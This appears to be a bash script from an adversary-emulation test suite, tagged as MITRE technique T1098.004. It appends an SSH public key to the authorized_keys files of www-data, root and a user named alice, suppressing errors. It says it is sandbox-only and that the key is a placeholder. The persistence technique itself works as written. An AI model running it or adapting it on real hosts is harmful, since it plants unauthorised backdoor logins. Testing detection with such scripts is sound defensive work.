#!/bin/bash
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# tactic: persistence
# user: www-data
# does: adds a key to accounts that it can write to
# harmless: only files of the sandbox; the key is no key

key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIForeignForeignForeignForeignForeignForeign x@x'
mkdir -p /var/www/.ssh
echo "$key" >>/var/www/.ssh/authorized_keys
chmod 700 /var/www/.ssh
{ echo "$key" >>/root/.ssh/authorized_keys; } 2>/dev/null
{ echo "$key" >>/home/alice/.ssh/authorized_keys; } 2>/dev/null
true
